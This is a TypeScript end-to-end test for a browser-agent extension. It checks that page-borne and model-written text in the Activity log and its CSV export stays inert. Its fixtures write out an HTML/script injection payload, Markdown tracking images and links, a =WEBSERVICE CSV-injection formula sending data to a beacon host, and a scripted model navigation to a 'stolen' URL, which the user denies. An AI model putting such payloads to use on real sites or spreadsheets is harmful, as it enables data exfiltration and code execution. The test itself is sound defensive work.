/**
 * Hostile text in the Activity log. A page names its button with markup and labels a field with a formula; the
 * model writes markup, a Markdown image and a formula into the form and asks to navigate to an address that
 * would report back. In Settings → Activity every one of them is shown as text: no element comes from them,
 * no link is live and nothing is fetched (the beacon server sees no request). In the CSV export no cell can
 * start a formula.
 */
import { readFile } from 'node:fs/promises';
import { serveStatic, type StaticServer } from '../harness/serve-static';
import {
  addFakeProvider,
  assistantMessages,
  expect,
  openPanel,
  openSettingsSection,
  sendChat,
  test,
  toolCall,
  toolCard,
} from '../e2e/fixtures';
import { parseCsv } from '../harness/parse-csv';

let site: StaticServer;
let beacon: StaticServer;
test.beforeAll(async () => {
  beacon = await serveStatic({});
  const b = beacon.url;
  site = await serveStatic({
    '/shop.html': `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Shop</title></head><body><main>
<button type="button" id="pay">&lt;img src="${b}/beacon-name.png" onerror="alert(1)"&gt; Pay</button>
<form id="f" action="/done" method="post">
<label>=HYPERLINK("${b}/beacon-label","open") <input name="note"></label>
<label>Name <input name="name"></label>
</form></main></body></html>`,
  });
});
test.afterAll(async () => {
  await site?.close();
  await beacon?.close();
});

test('page and model text in activity lines is shown as text, loads nothing, links nothing, and cannot start a formula in the CSV', async ({
  context,
  extensionId,
  llm,
  extPage,
}) => {
  const b = beacon.url;
  const markup = `<img src="${b}/beacon-value.png"><script>alert(1)</script>`;
  const markdown = `![tracker](${b}/beacon-md.png) [click me](${b}/beacon-link)`;
  const formula = '=WEBSERVICE("' + b + '/beacon-csv?"&A1)';
  await addFakeProvider(extPage, llm, 'm');
  const page = await context.newPage();
  await page.goto(`${site.url}/shop.html`);
  const panel = await openPanel(context, extensionId);
  llm.enqueue(
    toolCall('get_page_state'),
    toolCall('click', { key: 'e1' }),
    toolCall('get_form_state'),
    toolCall('fill_form', { updates: { note: formula, name: `${markup} ${markdown}` } }),
    toolCall('navigate', { url: `${b}/beacon-nav?stolen=1` }),
    { text: ['Done.'] },
  );
  await sendChat(panel, 'Pay and leave a note');
  await toolCard(panel, 'click').getByRole('button', { name: 'Approve' }).click();
  await toolCard(panel, 'fill_form').getByRole('button', { name: 'Approve' }).click();
  await toolCard(panel, 'navigate').getByRole('button', { name: 'Deny' }).click();
  await expect(assistantMessages(panel).last()).toHaveAttribute('data-status', 'complete');
  const before = beacon.requests.length;

  await openSettingsSection(extPage, extensionId, 'activity');
  const activity = extPage.getByRole('region', { name: 'Activity' });
  const lines = activity.getByRole('list', { name: 'Activity lines' }).locator(':scope > li');
  await expect(lines).toHaveCount(3);
  // Newest first: the denied navigation, the fill, the click.
  await expect(lines.nth(0)).toHaveAttribute('data-kind', 'navigate');
  await expect(lines.nth(0).locator('.activity-destination')).toHaveText(`To: ${b}/beacon-nav?stolen=1`);
  await expect(lines.nth(0).locator('.activity-approval')).toHaveText('denied on the card');
  await expect(lines.nth(1).locator('.activity-value').nth(1)).toHaveText(`${markup} ${markdown}`);
  await expect(lines.nth(1).locator('.activity-field').nth(0)).toContainText('=HYPERLINK(');
  await expect(lines.nth(2).locator('.activity-target')).toContainText(`<img src="${b}/beacon-name.png"`);

  // Nothing of it became markup: no element that loads, runs or links, anywhere in the section.
  await expect(activity.locator('img, script, iframe, object, embed, svg, video, audio, a, [src], [href]')).toHaveCount(
    0,
  );
  await extPage.waitForTimeout(500);
  expect(beacon.requests.slice(before)).toEqual([]);
  // The denied navigation never left either.
  expect(beacon.requests.filter((p) => p.startsWith('/beacon'))).toEqual([]);

  const [download] = await Promise.all([
    extPage.waitForEvent('download'),
    activity.getByRole('button', { name: 'Export CSV' }).click(),
  ]);
  const rows = parseCsv(await readFile((await download.path())!, 'utf8'));
  expect(rows).toHaveLength(4);
  for (const row of rows) for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
  const written = rows[2]![rows[0]!.indexOf('written')]!;
  expect(written.startsWith("'=HYPERLINK(")).toBe(true);
  expect(written).toContain(formula);
});
